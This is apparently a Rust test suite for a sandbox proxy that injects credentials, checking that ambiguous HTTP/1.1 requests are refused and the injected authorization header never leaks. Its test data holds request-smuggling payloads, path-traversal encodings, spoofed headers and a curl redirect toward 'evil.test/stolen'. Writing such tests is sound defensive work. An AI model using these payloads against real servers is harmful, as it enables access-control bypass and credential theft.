//! Cases 25 to 53: HTTP/1.1 on an intercepted name. Whatever is odd is refused, and no byte of it
//! reaches the origin.

use bivouac_testkit::{Seen, TestSandbox};
use serde_json::{Value, json};

use crate::tools::{PLAYED, attack, raw_https, status};
use crate::{Bed, fresh};

const OK: &str = "198.51.100.10";

struct Brokered {
    bed: Bed,
    name: String,
    canary: String,
    sandbox: TestSandbox,
}

impl Brokered {
    async fn new() -> Self {
        Self::with(json!({})).await
    }

    /// A rule that sets `authorization`, with these fields beside.
    async fn with(more: Value) -> Self {
        let bed = Bed::new().await;
        let name = fresh("ok.test");
        let canary = format!("canary-{name}");
        bed.name(&name, &[OK]);
        let mut rule = json!({"transform": [{"headers": {"authorization": canary}}]});
        rule.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        let sandbox = bed.sandbox(json!({"allow": {name.as_str(): [rule]}})).await;
        Self { bed, name, canary, sandbox }
    }

    /// What reached this test's own origin, or would have been sent in its name, and holds a text.
    fn seen(&self, text: &str) -> Vec<Seen> {
        let mut seen = self.bed.seen_with(text);
        seen.retain(|s| s.text().contains(&self.name) || s.sni.as_deref() == Some(&self.name));
        seen
    }

    /// Sends raw bytes; `NAME` in them is the origin's name.
    async fn send(&self, bytes: &str) -> Value {
        raw_https(&self.sandbox, &self.name, &bytes.replace("NAME", &self.name)).await
    }

    /// Sends what must be refused: no 2xx, and nothing that holds `mark` reaches the world.
    async fn refused(&self, what: &str, bytes: &str) {
        let answer = self.send(bytes).await;
        let code = status(&answer);
        assert!(code.is_none_or(|code| code >= 400), "{what}: {answer}");
        assert!(self.seen("/smuggled").is_empty(), "{what}: it went out");
    }
}

#[tokio::test]
async fn cases_25_to_34_ambiguous_messages_are_refused() {
    let b = Brokered::new().await;
    let cases = [
        (
            "25 CL and TE",
            "POST /smuggled HTTP/1.1\\r\\nHost: NAME\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n",
        ),
        (
            "26 two CL",
            "POST /smuggled HTTP/1.1\\r\\nHost: NAME\\r\\nContent-Length: 4\\r\\nContent-Length: 5\\r\\n\\r\\nabcde",
        ),
        (
            "26 list CL",
            "POST /smuggled HTTP/1.1\\r\\nHost: NAME\\r\\nContent-Length: 4, 4\\r\\n\\r\\nabcd",
        ),
        (
            "26 signed CL",
            "POST /smuggled HTTP/1.1\\r\\nHost: NAME\\r\\nContent-Length: +4\\r\\n\\r\\nabcd",
        ),
        (
            "27 xchunked",
            "POST /smuggled HTTP/1.1\\r\\nHost: NAME\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\n",
        ),
        (
            "27 chunked, identity",
            "POST /smuggled HTTP/1.1\\r\\nHost: NAME\\r\\nTransfer-Encoding: chunked, identity\\r\\n\\r\\n0\\r\\n\\r\\n",
        ),
        (
            "27 VT",
            "POST /smuggled HTTP/1.1\\r\\nHost: NAME\\r\\nTransfer-Encoding: \\x0bchunked\\r\\n\\r\\n0\\r\\n\\r\\n",
        ),
        (
            "27 space before the colon",
            "POST /smuggled HTTP/1.1\\r\\nHost: NAME\\r\\nTransfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n",
        ),
        (
            "27 TE on 1.0",
            "POST /smuggled HTTP/1.0\\r\\nHost: NAME\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n",
        ),
        (
            "28 gzip, chunked",
            "POST /smuggled HTTP/1.1\\r\\nHost: NAME\\r\\nTransfer-Encoding: gzip, chunked\\r\\n\\r\\n0\\r\\n\\r\\n",
        ),
        ("29 obs-fold", "GET /smuggled HTTP/1.1\\r\\nHost: NAME\\r\\nX-A: b\\r\\n c\\r\\n\\r\\n"),
        ("29 bare CR", "GET /smuggled HTTP/1.1\\r\\nHost: NAME\\r\\nX-A: b\\rc\\r\\n\\r\\n"),
        ("29 NUL", "GET /smuggled HTTP/1.1\\r\\nHost: NAME\\r\\nX-A: b\\x00c\\r\\n\\r\\n"),
        ("30 bare LF", "GET /smuggled HTTP/1.1\\nHost: NAME\\n\\n"),
        ("30 bare LF in the middle", "GET /smuggled HTTP/1.1\\r\\nHost: NAME\\nX-A: b\\r\\n\\r\\n"),
        ("31 two Host", "GET /smuggled HTTP/1.1\\r\\nHost: NAME\\r\\nHost: NAME\\r\\n\\r\\n"),
        (
            "31 two different Host",
            "GET /smuggled HTTP/1.1\\r\\nHost: NAME\\r\\nHost: evil.test\\r\\n\\r\\n",
        ),
        ("32 no Host", "GET /smuggled HTTP/1.1\\r\\n\\r\\n"),
        (
            "33 absolute form, elsewhere",
            "GET http://evil.test/smuggled HTTP/1.1\\r\\nHost: NAME\\r\\n\\r\\n",
        ),
        ("33 userinfo", "GET https://NAME@evil.test/smuggled HTTP/1.1\\r\\nHost: NAME\\r\\n\\r\\n"),
        ("33 userinfo in Host", "GET /smuggled HTTP/1.1\\r\\nHost: x@NAME\\r\\n\\r\\n"),
        ("33 other port", "GET /smuggled HTTP/1.1\\r\\nHost: NAME:444\\r\\n\\r\\n"),
        ("34 CONNECT", "CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n"),
        (
            "34 CONNECT to itself",
            "CONNECT NAME:443 HTTP/1.1\\r\\nHost: NAME:443\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: NAME\\r\\n\\r\\n",
        ),
        ("50 HTTP/0.9", "GET /smuggled\\r\\n"),
    ];
    for (what, bytes) in cases {
        b.refused(what, bytes).await;
    }
    assert!(b.seen(&b.canary).is_empty());
    // A control: the ordinary form of it all goes through, with the credential.
    let answer = b.send("POST /good HTTP/1.1\\r\\nHost: NAME\\r\\nTransfer-Encoding: chunked\\r\\nConnection: close\\r\\n\\r\\n3\\r\\nabc\\r\\n0\\r\\n\\r\\n").await;
    assert_eq!(status(&answer), Some(200), "{answer}");
    let seen = b.seen("/good");
    assert_eq!(
        (seen[0].body.as_slice(), seen[0].header("authorization")),
        (&b"abc"[..], vec![b.canary.as_str()])
    );
}

#[tokio::test]
async fn cases_35_and_37_to_39_headers_cannot_steer_the_credential() {
    let b = Brokered::new().await;
    let answer = b.send("GET /h2c HTTP/1.1\\r\\nHost: NAME\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\\r\\nConnection: Upgrade, HTTP2-Settings, close\\r\\n\\r\\n").await;
    assert_ne!(status(&answer), Some(101), "{answer}");
    for seen in b.seen("/h2c") {
        assert!(
            seen.header("upgrade").is_empty() && seen.header("http2-settings").is_empty(),
            "{seen:?}"
        );
    }
    let _ = b.send("GET /hop HTTP/1.1\\r\\nHost: NAME\\r\\nConnection: close, authorization, x-keep\\r\\nAuthorization: Bearer guess\\r\\nAUTHORIZATION: Basic guess\\r\\nX-Keep: 1\\r\\nProxy-Authorization: p\\r\\n\\r\\n").await;
    for seen in b.seen("/hop") {
        assert_eq!(seen.header("authorization"), [b.canary.as_str()], "{seen:?}");
        assert!(seen.header("x-keep").is_empty() && seen.header("proxy-authorization").is_empty());
    }
    let answer = b.send("GET /twins HTTP/1.1\\r\\nHost: NAME\\r\\nauthorization_: x\\r\\nx_api_key: guess\\r\\nX-HTTP-Method-Override: DELETE\\r\\nConnection: close\\r\\n\\r\\n").await;
    for seen in b.seen("/twins") {
        assert!(
            seen.header("x_api_key").is_empty() && seen.header("x-http-method-override").is_empty(),
            "{seen:?} {answer}"
        );
    }
    assert!(b.seen("guess").is_empty());
}

#[tokio::test]
async fn cases_40_and_41_a_path_means_one_thing() {
    let b = Brokered::with(json!({"match": {"path": {"startsWith": "/v1/"}}})).await;
    let forms = [
        "/v1/../admin",
        "/v1/%2e%2e/admin",
        "/v1/..%2fadmin",
        "/v1/%2fadmin",
        "/v1/..\\\\admin",
        "/v1/%5cadmin",
        "/v1/%252e%252e/admin",
        "/v1/x%00",
        "//v1/admin",
        "/v1/.%2e/admin",
    ];
    for form in forms {
        let answer = b
            .send(&format!(
                "GET {form} HTTP/1.1\\r\\nHost: NAME\\r\\nConnection: close\\r\\n\\r\\n"
            ))
            .await;
        for seen in b.seen(&b.canary) {
            let path = seen.target.to_lowercase();
            assert!(path.starts_with("/v1/"), "{form}: {seen:?}");
            assert!(
                !path.contains("..")
                    && !path.contains("%2e")
                    && !path.contains("%2f")
                    && !path.contains("%5c"),
                "{form}: {seen:?} {answer}"
            );
        }
    }
    let answer =
        b.send("GET /v1/good HTTP/1.1\\r\\nHost: NAME\\r\\nConnection: close\\r\\n\\r\\n").await;
    assert_eq!(status(&answer), Some(200), "{answer}");
    assert_eq!(b.seen("/v1/good")[0].header("authorization"), [b.canary.as_str()]);
    let answer =
        b.send("GET /v2/other HTTP/1.1\\r\\nHost: NAME\\r\\nConnection: close\\r\\n\\r\\n").await;
    assert_eq!(status(&answer), Some(200), "{answer}");
    assert!(b.seen("/v2/other")[0].header("authorization").is_empty());
}

#[tokio::test]
async fn case_43_every_request_of_a_connection_is_judged() {
    let b = Brokered::new().await;
    let answer = b.send("GET /first HTTP/1.1\\r\\nHost: NAME\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n").await;
    let got = answer["got"].as_str().unwrap();
    assert!(got.contains("421"), "{answer}");
    assert!(b.seen("/smuggled").is_empty());
}

#[tokio::test]
async fn case_44_a_body_is_a_body() {
    let b = Brokered::new().await;
    let inner = "GET /inner HTTP/1.1\\r\\nHost: NAME\\r\\n\\r\\n";
    let length = inner.replace("NAME", &b.name).replace("\\r\\n", "rn").len();
    let bytes = format!(
        "GET /outer HTTP/1.1\\r\\nHost: NAME\\r\\nContent-Length: {length}\\r\\nConnection: close\\r\\n\\r\\n{inner}"
    );
    let answer = b.send(&bytes).await;
    assert!(b.seen("").iter().all(|s| s.target != "/inner"), "{answer}");
}

#[tokio::test]
async fn case_46_a_body_with_broken_chunks_never_ends_well() {
    let b = Brokered::new().await;
    for chunks in ["fffffffffffffffff\\r\\nx", "1\\r\\nxy\\r\\n0\\r\\n\\r\\n", "1\\nx\\n0\\n\\n"] {
        let head =
            "POST /broken HTTP/1.1\\r\\nHost: NAME\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n";
        let answer = b.send(&format!("{head}{chunks}")).await;
        assert!(status(&answer).is_none_or(|code| code >= 400), "{chunks}: {answer}");
        // The head may have gone ahead, as all is streamed: the origin was told that the rest is missing.
        assert!(b.seen("/broken").iter().all(|seen| seen.body.is_empty()), "{chunks}");
    }
}

#[tokio::test]
async fn case_47_trailers_do_not_become_headers() {
    let b = Brokered::new().await;
    let _ = b.send("POST /trailed HTTP/1.1\\r\\nHost: NAME\\r\\nTransfer-Encoding: chunked\\r\\nTrailer: authorization\\r\\nConnection: close\\r\\n\\r\\n1\\r\\nx\\r\\n0\\r\\nAuthorization: guess\\r\\nHost: evil.test\\r\\n\\r\\n").await;
    assert!(b.seen("guess").is_empty());
}

#[tokio::test]
async fn case_48_too_many_and_too_large_headers_are_refused() {
    let b = Brokered::new().await;
    let many: String = (0..300).map(|i| format!("X-{i}: y\\r\\n")).collect();
    b.refused("300 headers", &format!("GET /smuggled HTTP/1.1\\r\\nHost: NAME\\r\\n{many}\\r\\n"))
        .await;
    let long = "z".repeat(90_000);
    b.refused(
        "90 KB of headers",
        &format!("GET /smuggled HTTP/1.1\\r\\nHost: NAME\\r\\nX-Long: {long}\\r\\n\\r\\n"),
    )
    .await;
}

#[tokio::test]
async fn case_51_nothing_is_injected_on_plain_http() {
    let b = Brokered::new().await;
    let request =
        format!("GET /plain HTTP/1.1\\r\\nHost: {}\\r\\nConnection: close\\r\\n\\r\\n", b.name);
    let answer = attack(&b.sandbox, &["tcp", PLAYED, "80", &request]).await;
    let got = answer["got"].as_str().unwrap_or_default();
    assert!(got.is_empty() || got.starts_with("HTTP/1.1 403"), "{answer}");
    assert!(got.is_empty() || got.contains("plain_http"), "the denial teaches: {got}");
    assert!(b.seen(&b.canary).is_empty());
    // With the option the name is judged by Host, and still nothing is injected.
    let canary = &b.canary;
    let policy = json!({"plainHttp": true, "allow": {b.name.as_str(): [{"transform": [{"headers": {"authorization": canary}}]}]}});
    b.bed.set(&b.sandbox, &policy).await;
    let answer =
        attack(&b.sandbox, &["tcp", PLAYED, "80", &request.replace("/plain", "/by-host")]).await;
    assert_eq!(status(&answer), Some(200), "{answer}");
    let seen = b.seen("/by-host");
    assert_eq!(seen[0].at.ip().to_string(), OK);
    assert!(seen[0].header("authorization").is_empty());
    let other = request.replace(&b.name, "evil-host.test").replace("/plain", "/evil-by-host");
    let _ = attack(&b.sandbox, &["tcp", "203.0.113.151", "80", &other]).await;
    assert!(b.bed.wire().to("203.0.113.151").is_empty());
    assert!(b.seen("/evil-by-host").is_empty());
}

#[tokio::test]
async fn case_52_a_redirect_elsewhere_is_a_new_request() {
    let b = Brokered::new().await;
    let line = format!(
        "curl -sS -L -m 8 -o /dev/null -w '%{{http_code}} %{{num_redirects}}' 'https://{}/redirect?to=https://redirected.evil.test/stolen'",
        b.name
    );
    let ran = b.sandbox.sh(&line).await;
    assert_ne!(ran.out(), "200 1", "{}", ran.out());
    assert!(b.bed.seen().iter().all(|s| s.target != "/stolen"));
    assert!(b.seen(&b.canary).iter().all(|s| s.at.ip().to_string() == OK));
}
